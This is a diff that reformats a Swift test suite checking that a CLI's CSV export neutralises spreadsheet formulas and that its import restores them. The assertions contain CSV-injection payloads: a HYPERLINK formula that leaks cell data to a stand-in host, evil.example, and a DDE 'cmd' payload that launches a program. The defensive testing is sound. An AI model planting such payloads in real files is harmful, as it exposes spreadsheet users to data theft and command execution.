@@ -8,7 +8,9 @@ import Testing
 /// would run as a formula, keeps plain numbers and dates, and `import` takes the quote off again.
 @Suite struct HostileCSVTests {
   let repo: TempRepository
-  static let day = ["GIT_AUTHOR_DATE": "2022-10-01T10:00:00+01:00", "GIT_COMMITTER_DATE": "2022-10-01T10:00:00+01:00"]
+  static let day = [
+    "GIT_AUTHOR_DATE": "2022-10-01T10:00:00+01:00", "GIT_COMMITTER_DATE": "2022-10-01T10:00:00+01:00",
+  ]
 
   init() throws {
     repo = try TempRepository()
@@ -71,10 +73,12 @@ import Testing
     let out = repo.scratch + "/export.csv"
     #expect(try CLI.run(["export", "--output", out], in: repo.path).status == 0)
     let other = try TempRepository()
-    let imported = try CLI.run(["import", out, "--author", "A <a@example.org>"], in: other.path, environment: Self.day)
+    let imported = try CLI.run(
+      ["import", out, "--author", "A <a@example.org>"], in: other.path, environment: Self.day)
     #expect(imported.status == 0, "\(imported.stderr)")
     let json = try CLI.run(["show", "DP-01", "--format", "json"], in: other.path)
-    let object = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
+    let object = try #require(
+      try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [String: Any])
     #expect(object["title"] as? String == "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
     #expect(object["owner"] as? String == "+cmd|' /C calc'!A0")
     #expect(object["progress"] as? String == "'=already quoted by hand\n")
